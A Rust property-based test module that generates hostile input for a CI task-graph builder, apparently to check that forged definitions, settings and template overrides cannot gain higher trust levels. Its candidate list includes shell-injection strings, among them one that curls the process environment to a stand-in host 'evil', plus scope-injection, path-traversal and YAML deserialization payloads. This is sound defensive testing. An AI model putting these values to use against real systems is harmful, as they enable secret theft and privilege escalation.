//! [`Attack`]: definitions, settings, templates and an event of which somebody hostile wrote every part that one may write.

use std::collections::BTreeMap;

use proptest::prelude::*;

use crate::definition::*;
use crate::full::{ImageTasks, full_task_graph};
use crate::graph::TaskGraph;
use crate::parameters::Parameters;
use crate::templates::KindTemplates;
use crate::testing;

mod draw;

use draw::Draw;

/// Text that somebody may try.
pub(super) fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => proptest::sample::select(vec![
            "secrets:get:project/td/level-3/x",
            "auth:github-repo-token:example-bot/example/images:contents:write",
            "auth:github-repo-token:example-bot/example/board:issues:write",
            "example/images:workflows:write",
            "example/*",
            "example-bot",
            "TASKGRAPH_IMAGES_GITHUB_APP",
            "TASKGRAPH_IMAGES_PLAN_SHA256",
            "cleanup/clouds",
            "upgrade",
            "project/td/level-3/x",
            "project/td/level-any/x",
            "project/td-level-3/level-1/x",
            "index.td.cache.level-3.images.v1.a.hash.b",
            "td.cache.level-3",
            "td.level-3",
            "td.cache.pr",
            "td-level-3-x",
            "td-level-3",
            "level-3",
            "level3",
            "b-linux-l3",
            "l1-level-3",
            "td-3",
            "TD_L3",
            "td-1",
            "x';curl${IFS}-d@/proc/self/environ${IFS}evil;'",
            "a$(id)`id`|b",
            "refs/heads/main\nid",
            "-x",
            "{{run.level}}{{#each this}}",
            "<decision>",
            "{\"task-reference\": \"<build>\"}",
            "\"], \"scopes\": [\"*\"], \"x\": [\"",
            "x\n- scopes: ['*']\nlevel: 3",
            "../../level-3",
            "%2e%2e",
            "%PATH%&whoami\"^|",
            "&x *x !!python/object",
            "*",
            "a*",
            "pr-git",
            "\u{202e}\u{feff}",
            "a\0b",
            "",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,40}",
        1 => "[a-z0-9./_-]{1,30}",
    ]
}

/// What somebody hostile wrote.
#[derive(Debug, Clone)]
pub(super) struct Attack {
    pub(super) images: Vec<ImageDefinition>,
    pub(super) config: ProjectConfig,
    pub(super) parameters: Parameters,
    /// Overrides of kinds' templates.
    pub(super) templates: BTreeMap<TaskKind, String>,
    path: String,
    reasons: Vec<String>,
}

impl Attack {
    /// The graph, unless the attack is refused.
    pub(super) fn graph(&self) -> Option<TaskGraph> {
        let mut templates = KindTemplates::embedded();
        for (kind, yaml) in &self.templates {
            templates = templates.with_override(*kind, yaml).ok()?;
        }
        let tasks: Vec<ImageTasks<'_>> = self
            .images
            .iter()
            .map(|image| {
                let mut tasks = ImageTasks::new(image, &self.path, testing::digests());
                tasks.reasons = BTreeMap::from([(Kind::Build, self.reasons.clone())]);
                tasks
            })
            .collect();
        full_task_graph(&tasks, &self.config, &self.parameters, &templates).ok()
    }
}

/// Any attack on a run of some level.
pub(super) fn attack(level: Level) -> impl Strategy<Value = Attack> {
    (
        proptest::collection::vec(hostile(), 24),
        // A prime, so that what is drawn over and over is not the same.
        proptest::collection::vec(any::<u8>(), 67),
    )
        .prop_map(move |(texts, dice)| {
            Draw::new(level, texts.into_iter().cycle(), dice.into_iter().cycle()).attack()
        })
}
